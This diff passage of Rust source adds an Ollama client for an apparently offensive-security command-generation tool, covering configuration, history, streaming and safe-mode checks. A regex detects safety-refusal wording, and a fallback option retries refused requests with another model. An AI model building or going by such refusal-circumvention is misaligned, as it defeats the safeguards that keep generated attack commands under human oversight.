+    pub fn max_interpret_input_chars(mut self, max_chars: usize) -> Self {
+        self.config.max_interpret_input_chars = max_chars;
+        self
+    }
+
+    /// Enable or disable cleaning up command output before interpretation
+    pub fn normalize_output(mut self, enabled: bool) -> Self {
+        self.config.normalize_output = enabled;
+        self
+    }
+
+    /// Set the maximum number of tokens to generate
+    pub fn max_tokens(mut self, max_tokens: u32) -> Self {
+        self.config.max_tokens = max_tokens;
+        self
+    }
+
+    /// Set how many models `warmup_models` may load at once
+    pub fn max_concurrent_loads(mut self, max_loads: usize) -> Self {
+        self.config.max_concurrent_loads = max_loads;
+        self
+    }
+
+    /// Add a few-shot example of a request and its ideal command
+    pub fn example(mut self, request: &str, command: &str) -> Self {
+        self.config.few_shot_examples.push((request.to_string(), command.to_string()));
+        self
+    }
+
+    /// Set the maximum number of few-shot examples included in each prompt
+    pub fn max_few_shot_examples(mut self, max_examples: usize) -> Self {
+        self.config.max_few_shot_examples = max_examples;
+        self
+    }
+
+    /// Add a regex pattern that generated commands must never match
+    pub fn deny_pattern(mut self, pattern: &str) -> Self {
+        self.config.denied_patterns.push(pattern.to_string());
+        self
+    }
+
+    /// Add an HTTP header sent with every request
+    pub fn header(mut self, name: &str, value: &str) -> Self {
+        self.config.headers.insert(name.to_string(), value.to_string());
+        self
+    }
+
+    /// Set the price of a paid model so its usage counts towards the session cost
+    pub fn model_cost(mut self, model: &str, cost: ModelCost) -> Self {
+        self.config.model_costs.insert(model.to_string(), cost);
+        self
+    }
+
+    /// Pace streamed explanations at a steady number of characters per second (0 disables)
+    pub fn stream_pace_cps(mut self, chars_per_sec: u32) -> Self {
+        self.config.stream_pace_cps = chars_per_sec;
+        self
+    }
+
+    /// Record the arrival time of each streamed chunk (see `StreamingResponse::timings`)
+    pub fn stream_timings(mut self, enabled: bool) -> Self {
+        self.config.stream_timings = enabled;
+        self
+    }
+
+    /// Explain commands in 2-3 sentences instead of a detailed breakdown
+    pub fn concise_explanations(mut self, enabled: bool) -> Self {
+        self.config.concise_explanations = enabled;
+        self
+    }
+
+    /// Summarize old history entries once history exceeds `threshold_chars` characters
+    pub fn compact_history(mut self, threshold_chars: usize) -> Self {
+        self.config.compact_history = true;
+        self.config.compact_threshold_chars = threshold_chars;
+        self
+    }
+
+    /// Use a fixed sampling seed for command generation
+    pub fn seed(mut self, seed: u64) -> Self {
+        self.config.seed = Some(seed);
+        self
+    }
+
+    /// Include or leave out previous interactions in the generation prompt
+    pub fn use_history(mut self, enabled: bool) -> Self {
+        self.config.use_history = enabled;
+        self
+    }
+
+    /// Set how many recent interactions go in the generation prompt, at most `MAX_HISTORY_CONTEXT_SIZE`
+    pub fn history_context_size(mut self, size: usize) -> Self {
+        self.config.history_context_size = size.min(MAX_HISTORY_CONTEXT_SIZE);
+        self
+    }
+
+    /// Mask secrets in history output sent with requests (on by default)
+    pub fn redact_history(mut self, enabled: bool) -> Self {
+        self.config.redact_history = enabled;
+        self
+    }
+
+    /// Require a brief explanation and confirmation before executing commands
+    pub fn execute_gate(mut self, enabled: bool) -> Self {
+        self.config.execute_gate = enabled;
+        self
+    }
+
+    /// Set how many times a truncated command is continued automatically (0 disables)
+    pub fn max_continuations(mut self, max_continuations: usize) -> Self {
+        self.config.max_continuations = max_continuations;
+        self
+    }
+
+    /// Set what result interpretation concentrates on
+    pub fn interpret_focus(mut self, focus: InterpretFocus) -> Self {
+        self.config.interpret_focus = focus;
+        self
+    }
+
+    /// Set the operating system generated commands should run on
+    pub fn target_os(mut self, platform: Platform) -> Self {
+        self.config.target_os = platform;
+        self
+    }
+
+    /// Generate one-liners or multi-line scripts
+    pub fn command_style(mut self, style: CommandStyle) -> Self {
+        self.config.command_style = style;
+        self
+    }
+
+    /// Prefer installed variants with this quantization (e.g. "q4_0", "q8_0", "fp16")
+    pub fn preferred_quantization(mut self, quantization: &str) -> Self {
+        self.config.preferred_quantization = Some(quantization.to_string());
+        self
+    }
+
+    /// Pull a missing model without asking first
+    pub fn auto_pull(mut self, enabled: bool) -> Self {
+        self.config.auto_pull = enabled;
+        self
+    }
+
+    /// Retry refused command requests with `model`
+    pub fn refusal_fallback_model(mut self, model: &str) -> Self {
+        self.config.refusal_fallback_model = Some(model.to_string());
+        self
+    }
+
+    /// Send requests for `model` (a full name or a family) to the chat endpoint, or not
+    pub fn use_chat_api(mut self, model: &str, enabled: bool) -> Self {
+        self.config.use_chat_api.insert(model.to_string(), enabled);
+        self
+    }
+
+    /// Fit history into `tokens` of the generation prompt, keeping the most relevant entries
+    pub fn history_token_budget(mut self, tokens: usize) -> Self {
+        self.config.history_token_budget = Some(tokens);
+        self
+    }
+
+    /// Ollama model used to rank history by relevance
+    pub fn embedding_model(mut self, model: &str) -> Self {
+        self.config.embedding_model = model.to_string();
+        self
+    }
+
+    /// Let `alias` stand for `model` wherever a model is chosen
+    pub fn model_alias(mut self, alias: &str, model: &str) -> Self {
+        self.config.model_aliases.insert(alias.to_string(), model.to_string());
+        self
+    }
+
+    /// Set the context window size in tokens
+    pub fn num_ctx(mut self, num_ctx: u32) -> Self {
+        self.config.num_ctx = Some(num_ctx);
+        self
+    }
+
+    /// Set the connection timeout in seconds
+    pub fn connect_timeout_secs(mut self, connect_timeout_secs: u64) -> Self {
+        self.config.connect_timeout_secs = connect_timeout_secs;
+        self
+    }
+
+    /// Set the timeout for whole non-streaming requests in seconds
+    pub fn request_timeout_secs(mut self, request_timeout_secs: u64) -> Self {
+        self.config.request_timeout_secs = request_timeout_secs;
+        self
+    }
+
+    /// Set the timeout for whole non-streaming requests in seconds
+    #[deprecated(note = "use `request_timeout_secs`, and `connect_timeout_secs` for connecting")]
+    pub fn timeout_secs(self, timeout_secs: u64) -> Self {
+        self.request_timeout_secs(timeout_secs)
+    }
+
+    /// Set how many times transient failures are retried (0 disables retrying)
+    pub fn max_retries(mut self, max_retries: u32) -> Self {
+        self.config.max_retries = max_retries;
+        self
+    }
+
+    /// Set the delay before the first retry, in milliseconds
+    pub fn retry_base_delay_ms(mut self, delay_ms: u64) -> Self {
+        self.config.retry_base_delay_ms = delay_ms;
+        self
+    }
+
+    /// Validate and return the configuration
+    pub fn build(self) -> Result<OllamaConfig> {
+        self.config.validate()?;
+        Ok(self.config)
+    }
+}
+
+/// Whether a request failed because it was cancelled with `abort_all`
+pub fn is_aborted(error: &anyhow::Error) -> bool {
+    error.chain().any(|cause| cause.to_string() == ABORTED_MESSAGE)
+}
+
+/// Whether a failed request is worth retrying: the server couldn't be reached or was busy (503)
+fn is_transient(error: &anyhow::Error) -> bool {
+    error.chain().any(|cause| {
+        cause.downcast_ref::<reqwest::Error>().is_some_and(reqwest::Error::is_connect)
+            || cause.downcast_ref::<ApiError>().is_some_and(|e| e.status == 503)
+    })
+}
+
+/// Suggest a generation temperature for a request using keyword heuristics
+///
+/// Simple factual requests (listing files, reading versions) get a low temperature
+/// for deterministic output, while creative tasks such as payload construction get
+/// a higher one. Requests matching neither fall back to the default temperature.
+pub fn suggest_temperature(input: &str) -> f32 {
+    let input = input.to_lowercase();
+    
+    // Creative keywords win, since "generate a payload to list files" is still payload work
+    if CREATIVE_KEYWORDS.iter().any(|k| input.contains(k)) {
+        return CREATIVE_TEMPERATURE;
+    }
+    
+    let is_factual = input
+        .split(|c: char| !c.is_alphanumeric())
+        .any(|word| FACTUAL_KEYWORDS.contains(&word));
+    if is_factual {
+        return FACTUAL_TEMPERATURE;
+    }
+    
+    DEFAULT_TEMPERATURE
+}
+
+/// Load few-shot examples from a JSON file
+///
+/// The file holds an array of objects with `request` and `command` fields:
+/// `[{"request": "list open ports", "command": "ss -tuln"}]`
+pub fn load_few_shot_examples(path: impl AsRef<Path>) -> Result<Vec<(String, String)>> {
+    #[derive(Deserialize)]
+    struct Example {
+        request: String,
+        command: String,
+    }
+    
+    let path = path.as_ref();
+    let content = std::fs::read_to_string(path)
+        .with_context(|| format!("Failed to read examples file {}", path.display()))?;
+    let examples: Vec<Example> = serde_json::from_str(&content)
+        .with_context(|| format!("Failed to parse examples file {}", path.display()))?;
+    
+    Ok(examples.into_iter().map(|e| (e.request, e.command)).collect())
+}
+
+/// Shorten text to at most `max_chars` characters, keeping both the head and the tail
+///
+/// Errors often appear at the end of command output, so rather than cutting it off the
+/// middle is replaced with a marker. A `max_chars` of 0 disables truncation.
+pub fn truncate_middle(text: &str, max_chars: usize) -> String {
+    let total = text.chars().count();
+    if max_chars == 0 || total <= max_chars {
+        return text.to_string();
+    }
+    
+    let head_len = max_chars / 2;
+    let tail_len = max_chars - head_len;
+    let head: String = text.chars().take(head_len).collect();
+    let tail: String = text.chars().skip(total - tail_len).collect();
+    
+    format!(
+        "{}\n[output truncated, showing first {} and last {} chars]\n{}",
+        head,
+        head_len,
+        tail_len,
+        tail
+    )
+}
+
+lazy_static! {
+    // A line that is only a shell prompt, or a prompt followed by the echoed command:
+    // "user@host:~$ ls", "root@box:/tmp# id", "└─$ whoami", "$", "#"
+    static ref PROMPT_ECHO: Regex = Regex::new(
+        r"^(?:[\w.-]+@[\w.-]+(?::\S*)?\s?[$#](?:\s.*)?|[└╰]─+(?:\S*)?[$#](?:\s.*)?|┌──.*|[$#>])$"
+    ).unwrap();
+    
+    // Typical safety-refusal wording: "I'm sorry, but...", "I can't help with that", "As an AI..."
+    static ref REFUSAL: Regex = Regex::new(
+        r"(?i)^\W*(?:i'?m sorry|i am sorry|sorry,|i can(?:no|')t|i won'?t|i will not|i'?m (?:not able|unable)|i am (?:not able|unable)|as an ai)|\b(?:cannot|can'?t|unable to|won'?t) (?:assist|help|provide|comply)"
+    ).unwrap();
+}
+
+/// Whether a model answer is a safety refusal rather than a command
+pub fn looks_like_refusal(text: &str) -> bool {
+    REFUSAL.is_match(text.trim())
+}
+
+/// Tidy command output before it is sent for interpretation
+///
+/// Trailing whitespace is trimmed from every line, runs of blank lines collapse into one,
+/// and lines that are only a shell prompt (or a prompt echoing the command) are dropped.
+pub fn normalize_output(text: &str) -> String {
+    let mut lines: Vec<&str> = Vec::new();
+    for line in text.lines().map(str::trim_end) {
+        if PROMPT_ECHO.is_match(line.trim_start()) {
+            continue;
+        }
+        if line.is_empty() && lines.last().is_none_or(|last| last.is_empty()) {
+            continue;
+        }
+        lines.push(line);
+    }
+    while lines.last() == Some(&"") {
+        lines.pop();
+    }
+    lines.join("\n")
+}
+
+/// Find the installed model named in a free-form model answer
+///
+/// Prefers an exact match, then the longest installed name mentioned in the answer.
+fn match_installed_model(answer: &str, installed: &[String]) -> Option<String> {
+    let cleaned = answer.trim().trim_matches(|c: char| c == '`' || c == '"' || c == '\'' || c == '.');
+    if let Some(exact) = installed.iter().find(|name| *name == cleaned) {
+        return Some(exact.clone());
+    }
+    
+    installed.iter()
+        .filter(|name| answer.contains(name.as_str()))
+        .max_by_key(|name| name.len())
+        .cloned()
+}
+
+/// Cosine similarity of two vectors, 0 when either is all zeros
+fn cosine_similarity(a: &[f32], b: &[f32]) -> f32 {
+    let dot: f32 = a.iter().zip(b).map(|(x, y)| x * y).sum();
+    let norm = |v: &[f32]| v.iter().map(|x| x * x).sum::<f32>().sqrt();
+    let norms = norm(a) * norm(b);
+    if norms == 0.0 { 0.0 } else { dot / norms }
+}
+
+/// The output of a history entry as sent to the model, with secrets masked if `redact` is set
+fn history_result(item: &HistoryItem, redact: bool) -> Cow<'_, str> {
+    if redact {
+        Cow::Owned(redact_sensitive(&item.result))
+    } else {
+        Cow::Borrowed(&item.result)
+    }
+}
+
+/// A history entry as it appears in the generation prompt
+fn history_entry(n: usize, item: &HistoryItem, redact: bool) -> String {
+    format!("Request {}: {}\nCommand: {}\nResult: {}\n\n", n, item.user_input, item.command, history_result(item, redact))
+}
+
+/// A history entry cut down to one line: the request, its command and the start of its output
+fn history_one_liner(item: &HistoryItem, redact: bool) -> String {
+    let result = history_result(item, redact);
+    let first_line = result.lines().map(str::trim).find(|line| !line.is_empty()).unwrap_or("no output");
+    let excerpt: String = first_line.chars().take(ONE_LINER_RESULT_CHARS).collect();
+    let ellipsis = if first_line.chars().count() > ONE_LINER_RESULT_CHARS { "..." } else { "" };
+    format!("- {}: `{}` -> {}{}\n", item.user_input, item.command, excerpt, ellipsis)
+}
+
+/// Add a request's token usage to the shared tracker
+fn record_usage(tracker: &Mutex<CostTracker>, model: &str, usage: TokenUsage) {
+    if let Ok(mut tracker) = tracker.lock() {
+        tracker.record(model, usage);
+    }
+}
+
+/// Convert configured headers into a reqwest header map, rejecting invalid names or values
+fn header_map(headers: &HashMap<String, String>) -> Result<HeaderMap> {
+    let mut map = HeaderMap::new();
+    for (name, value) in headers {
+        let header_name = HeaderName::from_bytes(name.as_bytes())
+            .with_context(|| format!("Invalid header name '{}'", name))?;
+        let header_value = HeaderValue::from_str(value)
+            .with_context(|| format!("Invalid value for header '{}'", name))?;
+        map.insert(header_name, header_value);
+    }
+    Ok(map)
+}
+
+/// Tidy a response cut off by a stop sequence into a single sentence
+fn finish_sentence(text: &str) -> String {
+    let mut sentence = text.trim().to_string();
+    if !sentence.is_empty() && !sentence.ends_with(['.', '!', '?']) {
+        sentence.push('.');
+    }
+    sentence
+}
+
+/// System prompt for interpretation, `base` narrowed to `focus` if it isn't general
+fn interpret_system_prompt(base: &str, focus: InterpretFocus) -> Cow<'_, str> {
+    match focus.instruction() {
+        Some(instruction) => Cow::Owned(format!(
+            "{}\n\nThe user has asked you to focus ONLY on {}. Leave out findings unrelated to this.",
+            base,
+            instruction
+        )),
+        None => Cow::Borrowed(base),
+    }
+}
+
+/// Build the interpretation prompt for a command's output
+///
+/// Findings are extracted from the full output before it is truncated to `max_chars`.
+fn build_interpret_prompt(result: &str, max_chars: usize, history: &[HistoryItem], focus: InterpretFocus) -> String {
+    // Build context from the most recent command
+    let command_context = match history.last() {
+        Some(latest) => format!("For the request: {}\nThe following command was executed: {}\n\n",
+            latest.user_input,
+            latest.command
+        ),
+        None => "No command context available.".to_string(),
+    };
+    
+    // Summarise recognised tool output up front so the model can focus on what matters
+    let findings = history
+        .last()
+        .map(|latest| parsers::parse_command_output(&latest.command, result))
+        .unwrap_or_default();
+    let findings_context = if findings.is_empty() {
+        String::new()
+    } else {
+        let lines: Vec<String> = findings.iter().map(|f| format!("- {}", f)).collect();
+        format!("Key findings extracted from the output:\n{}\n\n", lines.join("\n"))
+    };
+    let result = truncate_middle(result, max_chars);
+    let request = match focus {
+        InterpretFocus::General => "Please provide a detailed interpretation of these results from a security perspective.".to_string(),
+        focus => format!("Please interpret these results, looking only for {} findings.", focus),
+    };
+    
+    format!(
+        "{}{}Here is the result of the command execution:\n\n{}\n\n{}",
+        command_context,
+        findings_context,
+        result,
+        request
+    )
+}
+
+/// Refuse commands that safe mode never allows, explaining why
+fn check_safe_mode(command: &str) -> Result<()> {
+    if let Some(reason) = command.strip_prefix(SAFE_MODE_REFUSAL) {
+        anyhow::bail!("Safe mode: the request was refused ({})", reason.trim());
+    }
+    
+    let assessment = assess_command(command);
+    if assessment.level == RiskLevel::Destructive {
+        anyhow::bail!(
+            "Safe mode blocked a destructive command: it {}",
+            assessment.reasons.join(", ")
+        );
+    }
+    Ok(())
+}
+
+/// Join backslash-continued lines of a command and drop comment and blank lines
+fn join_continuations(command: &str) -> String {
+    let mut joined = String::new();
+    for line in command.lines().map(str::trim) {
+        if line.is_empty() || line.starts_with('#') {
+            continue;
+        }
+        if !joined.is_empty() && !joined.ends_with(' ') {
+            joined.push('\n');
+        }
+        match line.strip_suffix('\\') {
+            Some(rest) => {
+                joined.push_str(rest.trim_end());
+                joined.push(' ');
+            }
+            None => joined.push_str(line),
+        }
+    }
+    joined.trim_end().to_string()
+}
+
+/// Temperature for asking for an alternative command: clearly above the usual one
+fn alternative_temperature(current: f32) -> f32 {
+    CREATIVE_TEMPERATURE.max(current + 0.2).min(1.0)
+}
+
+/// Rough token count for English text and shell commands (about four characters per token)
+pub fn estimate_tokens(text: &str) -> usize {
+    text.chars().count().div_ceil(4)
+}
+
+/// Create a short random ID used to correlate the log lines of one request
+fn new_request_id() -> String {
+    format!("{:08x}", random_u64() as u32)
+}
+
+/// An unpredictable 64-bit value, used for request IDs and sampling seeds
+fn random_u64() -> u64 {
+    static COUNTER: AtomicU64 = AtomicU64::new(0);
+    
+    // RandomState is randomly seeded, so hashing a counter gives unpredictable values
+    let mut hasher = RandomState::new().build_hasher();
+    hasher.write_u64(COUNTER.fetch_add(1, Ordering::Relaxed));
+    hasher.finish()
+}
+
+/// Split a model reference into its name and optional pinned digest
+///
+/// `gemma3:12b@sha256:abc123` yields `("gemma3:12b", Some("abc123"))`.
+pub fn split_model_digest(model: &str) -> (&str, Option<&str>) {
+    match model.split_once('@') {
+        Some((name, digest)) => (name, Some(digest.strip_prefix("sha256:").unwrap_or(digest))),
+        None => (model, None),
+    }
+}
+
+/// Pick the installed variant of `base` with the preferred quantization
+///
+/// `base` is a model name (`llama3`) or tag (`llama3:8b`); variants are tags that extend
+/// it, such as `llama3:8b-instruct-q4_0`. A quantization matches a dash-separated part of
+/// the tag exactly or as a prefix, so `q4` matches `q4_K_M`. Without a match this falls
+/// back to `base` itself, then to the first installed variant; None if nothing related
+/// is installed.
+pub fn find_model_variant(base: &str, prefer_quant: &str, installed: &[String]) -> Option<String> {
+    let quant = prefer_quant.trim().to_lowercase();
+    let variants: Vec<&String> = installed.iter().filter(|tag| is_model_variant(tag, base)).collect();
+    
+    let has_quant = |tag: &str| {
+        let tag = tag.to_lowercase();
+        let suffix = tag.split_once(':').map_or("", |(_, suffix)| suffix);
+        suffix.split('-').any(|part| part == quant || part.starts_with(&format!("{}_", quant)))
+    };
+    
+    variants.iter().find(|tag| !quant.is_empty() && has_quant(tag))
+        .or_else(|| variants.iter().find(|tag| tag.as_str() == base || **tag == &format!("{}:latest", base)))
+        .or_else(|| variants.first())
+        .map(|tag| tag.to_string())
+}
+
+/// Returns true if the installed `tag` is `base` or a variant of it
+fn is_model_variant(tag: &str, base: &str) -> bool {
+    if base.contains(':') {
+        tag == base || tag.strip_prefix(base).is_some_and(|rest| rest.starts_with('-'))
+    } else {
+        tag.split(':').next() == Some(base)
+    }
+}
+
+/// How much of a model is present locally
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum PullState {
+    /// The model is installed and ready to use
+    Present,
+    /// The model is not installed but interrupted downloads were found
+    ///
+    /// Ollama only records which model a blob belongs to once the pull completes, so
+    /// partial blobs can't be attributed to a specific model.
+    Partial { partial_blobs: usize, bytes: u64 },
+    /// Nothing is known about the model locally
+    Absent,
+}
+
+/// A progress update reported while pulling a model
+#[derive(Debug, Clone, Deserialize)]
+pub struct PullProgress {
+    pub status: String,
+    #[serde(default)]
+    pub digest: Option<String>,
+    #[serde(default)]
+    pub total: Option<u64>,
+    #[serde(default)]
+    pub completed: Option<u64>,
+    #[serde(default)]
+    pub error: Option<String>,
+}
+
+/// Available LLM models with their descriptions
+#[derive(Debug, Clone)]
+pub struct ModelInfo {
+    pub name: String,
+    pub description: String,
+    pub size: String,
+}
+
+impl ModelInfo {
+    pub fn new(name: &str, description: &str, size: &str) -> Self {
+        Self {
+            name: name.to_string(),
+            description: description.to_string(),
+            size: size.to_string(),
+        }
+    }
+}
+
+/// Returns a list of recommended models for security tasks
+pub fn get_recommended_models() -> Vec<ModelInfo> {
+    vec![
+        ModelInfo::new(
+            "gemma3:12b", 
+            "Google's Gemma 3 12B model, good general performance for security tasks", 
+            "12B"
+        ),
+        ModelInfo::new(
+            "deepseek-coder:6.7b", 
+            "Model focused on code analysis and generation, useful for exploit development", 
+            "6.7B"
+        ),
+        ModelInfo::new(
+            "deepseek-r1:8b", 
+            "Lightweight yet powerful reasoning model for security analysis", 
+            "8B"
+        ),
+        ModelInfo::new(
+            "llama3:8b", 
+            "Meta's Llama 3 8B model, good balance of performance and resource usage", 
+            "8B"
+        ),
+        ModelInfo::new(
+            "phi3:14b", 
+            "Microsoft's Phi-3 large model, excellent for complex security reasoning", 
+            "14B"
+        ),
+        ModelInfo::new(
+            "mixtral:8x7b", 
+            "Mistral AI's mixture of experts model, very strong on complex security tasks", 
+            "8x7B"
+        ),
+    ]
+}
+
+/// Aliases for the recommended models' short names, e.g. `llama3` for `llama3:8b`
+pub fn builtin_model_aliases() -> HashMap<String, String> {
+    get_recommended_models()
+        .into_iter()
+        .filter_map(|model| {
+            let (short, _) = model.name.split_once(':')?;
+            Some((short.to_string(), model.name.clone()))
+        })
+        .collect()
+}
+
+/// Which recommended model families follow instructions better through `/api/chat`
+///
+/// Chat-tuned models get their system prompt as a proper system message there; the
+/// code completion model is left on generate.
+pub fn builtin_chat_api_models() -> HashMap<String, bool> {
+    [
+        ("gemma3", true),
+        ("deepseek-r1", true),
+        ("llama3", true),
+        ("phi3", true),
+        ("mixtral", true),
+        ("deepseek-coder", false),
+    ]
+    .into_iter()
+    .map(|(family, enabled)| (family.to_string(), enabled))
+    .collect()
+}
+
+/// LLM service for interacting with Ollama
+#[derive(Debug, Clone)]
+pub struct OllamaClient {
+    client: reqwest::Client,
+    config: OllamaConfig,
+    hosts: Arc<HostPool>,
+    denied_patterns: Vec<Regex>,
+    /// Shared by every clone so `abort_all` stops generations started from any of them
+    cancel: Arc<Mutex<CancellationToken>>,
+    /// Tokens used per model this session, shared by every clone
+    usage: Arc<Mutex<CostTracker>>,
+    /// Whether `auto_num_ctx` may resize the compaction threshold (no explicit one was set)
+    auto_compact_threshold: bool,
+    /// Answers generations instead of the Ollama server, e.g. when replaying a recording
+    backend: Option<Arc<dyn LlmBackend>>,
+    /// Records every generation and its response, for replaying the session later
+    recorder: Option<Arc<SessionRecorder>>,
+    /// Orders generations from this client and its clones, if set
+    queue: Option<RequestQueue>,
+    /// Where this client's generations go in `queue`
+    priority: Priority,
+}
+
+/// History item for maintaining conversation context
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct HistoryItem {
+    pub user_input: String,
+    pub command: String,
+    pub result: String,
+    /// Parameters the command was generated with (empty for older records)
+    #[serde(default)]
+    pub params: GenerationParams,
+    /// Interpretations of `result`, oldest first
+    #[serde(default)]
+    pub interpretations: Vec<Interpretation>,
+    /// Host the command was aimed at: the session's `target` variable when it was recorded
+    #[serde(default)]
+    pub target: Option<String>,
+}
+
+/// Tag shown for history items recorded without a target
+pub const UNSPECIFIED_TARGET: &str = "unspecified";
+
+impl HistoryItem {
+    /// The target tag, or "unspecified"
+    pub fn target_label(&self) -> &str {
+        self.target.as_deref().unwrap_or(UNSPECIFIED_TARGET)
+    }
+}
+
+/// A model's interpretation of a command's output
+#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
+pub struct Interpretation {
+    /// Model that wrote the interpretation
+    pub model: String,
+    pub text: String,
+}
+
+/// A conversation about one interpretation: follow-up questions and their answers
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct FollowUpThread {
+    pub user_input: String,
+    pub command: String,
+    /// Output of the command
+    pub result: String,
+    pub interpretation: String,
+    /// Earlier (question, answer) pairs, oldest first
+    pub exchanges: Vec<(String, String)>,
+}
+
+impl FollowUpThread {
+    /// Start a thread about the interpretation of a history item's output
+    pub fn new(item: &HistoryItem, interpretation: &str) -> Self {
+        Self {
+            user_input: item.user_input.clone(),
+            command: item.command.clone(),
+            result: item.result.clone(),
+            interpretation: interpretation.to_string(),
+            exchanges: Vec::new(),
+        }
+    }
+
+    /// Prompt asking `question` with the whole conversation so far as context
+    fn prompt(&self, question: &str, max_result_chars: usize) -> String {
+        let mut prompt = format!(
+            "For the request: {}\nThe following command was executed: {}\n\nHere is the result of the command execution:\n\n{}\n\nYour interpretation of it was:\n{}\n\n",
+            self.user_input,
+            self.command,
+            truncate_middle(&self.result, max_result_chars),
+            self.interpretation
+        );
+        for (earlier, answer) in &self.exchanges {
+            prompt.push_str(&format!("The analyst asked: {}\nYou answered:\n{}\n\n", earlier, answer));
+        }
+        prompt.push_str(&format!(
+            "The analyst now asks: {}\n\nAnswer the question directly, referring to specific lines of the output where they support your reasoning.",
+            question
+        ));
+        prompt
+    }
+}
+
+/// The parameters a command was generated with, enough to reproduce it
+#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
+pub struct GenerationParams {
+    pub model: String,
+    /// None when no temperature was sent
+    pub temperature: Option<f32>,
+    pub seed: Option<u64>,
+}
+
+/// The pieces a command generation prompt is assembled from
+#[derive(Debug, Clone)]
+pub struct PromptParts {
+    /// System prompt sent alongside the prompt
+    pub system: String,
+    /// Few-shot examples, empty when none are configured
+    pub examples: String,
+    /// The instruction wrapping the user's request
+    pub request: String,
+    /// Previous interactions, or a note that there are none
+    pub history: String,
+}
+
+impl PromptParts {
+    /// The prompt text sent to the model (the system prompt is sent separately)
+    pub fn prompt(&self) -> String {
+        format!("{}{}{}", self.examples, self.request, self.history)
+    }
+}
+
+/// Size of one section of an assembled prompt
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct PromptSection {
+    pub name: &'static str,
+    pub chars: usize,
+    pub tokens: usize,
+}
+
+/// A generated command along with details about how it was generated
+#[derive(Debug, Clone)]
+pub struct GeneratedCommand {
+    /// The cleaned command
+    pub command: String,
+    /// True if generation hit `max_tokens`, meaning the command may be incomplete
+    pub truncated: bool,
+    /// Why the model stopped, if the server reported it
+    pub done_reason: Option<DoneReason>,
+    /// Model, temperature and seed used for this generation
+    pub params: GenerationParams,
+    /// Time taken to generate, including any continuations
+    pub elapsed: Duration,
+    /// Tokens used, when the server reported them
+    pub usage: Option<TokenUsage>,
+    /// Time the server spent generating tokens, when it reported it
+    pub eval_duration: Option<Duration>,
+    /// How risky the command is to run
+    pub risk: RiskAssessment,
+    /// The model's response exactly as generated, before cleaning
+    pub raw: String,
+}
+
+impl GeneratedCommand {
+    /// The model that generated the command
+    pub fn model(&self) -> &str {
+        &self.params.model
+    }
+
+    /// Token counts and generation speed, when the server reported them
+    pub fn stats(&self) -> Option<GenerationStats> {
+        self.usage.map(|usage| GenerationStats {
+            prompt_tokens: usage.input_tokens,
+            tokens_generated: usage.output_tokens,
+            eval_duration: self.eval_duration,
+        })
+    }
+}
+
+/// Token counts and speed of a generation, as reported by the server
+#[derive(Debug, Clone, Copy, PartialEq)]
+pub struct GenerationStats {
+    /// Tokens in the prompt (`prompt_eval_count`)
+    pub prompt_tokens: u64,
+    /// Tokens generated (`eval_count`)
+    pub tokens_generated: u64,
+    /// Time spent generating them (`eval_duration`), excluding model loading and prompt processing
+    pub eval_duration: Option<Duration>,
+}
+
+impl GenerationStats {
+    /// Generation speed, which unlike wall-clock time is comparable between models
+    pub fn tokens_per_sec(&self) -> Option<f64> {
+        let secs = self.eval_duration?.as_secs_f64();
+        (secs > 0.0).then(|| self.tokens_generated as f64 / secs)
+    }
+}
+
+/// Why the model stopped generating, as reported in Ollama's `done_reason`
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum DoneReason {
+    /// The response ended naturally or on a stop sequence
+    Stop,
+    /// Generation hit the token limit, so the output may be incomplete
+    Length,
+    /// The request loaded the model (a cold start)
+    Load,
+    /// A reason this client doesn't know about
+    Other(String),
+}
+
+impl DoneReason {
+    /// Parse the `done_reason` value sent by the server
+    pub fn parse(reason: &str) -> Self {
+        match reason {
+            "stop" => DoneReason::Stop,
+            "length" => DoneReason::Length,
+            "load" => DoneReason::Load,
+            other => DoneReason::Other(other.to_string()),
+        }
+    }
+}
+
+impl fmt::Display for DoneReason {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            DoneReason::Stop => write!(f, "stop"),
+            DoneReason::Length => write!(f, "length"),
+            DoneReason::Load => write!(f, "load"),
+            DoneReason::Other(reason) => write!(f, "{}", reason),
+        }
+    }
+}
+
+/// Result of a generate-and-verify loop
+#[derive(Debug, Clone)]
+pub struct VerifiedCommand {
+    /// The last command that was generated
+    pub command: String,
+    /// Output produced by running the last command
+    pub output: String,
+    /// Whether the model judged the output as a success
+    pub verified: bool,
+    /// Number of commands generated before stopping
+    pub attempts: usize,
+}
+
+/// An item received from a streaming response
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum StreamChunk {
+    /// A piece of model output
+    Token(String),
+    /// The request or stream failed; no further chunks follow
+    Error(StreamError),
+    /// The response completed successfully; sent last
+    Done,
+}
+
+/// Why a streaming response failed
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum StreamError {
+    /// The request never reached Ollama (connection refused, DNS failure, ...)
+    Connect(String),
+    /// The connection dropped after the response had started
+    MidStream(String),
+    /// Ollama answered with an error status
+    Api(String),
+    /// The generation was stopped with `abort_all`
+    Aborted,
+}
+
+impl StreamError {
+    /// Whether the failure is a dropped or refused connection that may succeed if retried
+    pub fn is_recoverable(&self) -> bool {
+        matches!(self, Self::Connect(_) | Self::MidStream(_))
+    }
+}
+
+impl fmt::Display for StreamError {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            Self::Connect(message) => write!(f, "Could not connect to Ollama: {}", message),
+            Self::MidStream(message) => write!(f, "Stream error: {}", message),
+            Self::Api(message) => write!(f, "{}", message),
+            Self::Aborted => write!(f, "{}", ABORTED_MESSAGE),
+        }
+    }
+}
+
+impl std::error::Error for StreamError {}
+
+/// When the chunks of a streamed response arrived, relative to sending the request
+#[derive(Debug, Clone, Default, PartialEq)]
+pub struct StreamTimings {
+    /// Elapsed time at which each non-empty chunk of model output arrived
+    pub chunks: Vec<Duration>,
+}
+
+impl StreamTimings {
+    /// Time until the model produced its first output
+    pub fn time_to_first_token(&self) -> Option<Duration> {
+        self.chunks.first().copied()
+    }
+
+    /// Steady-state output rate: chunks after the first over the time they took
+    ///
+    /// Ollama streams one token per chunk, so this is tokens per second.
+    pub fn tokens_per_sec(&self) -> Option<f64> {
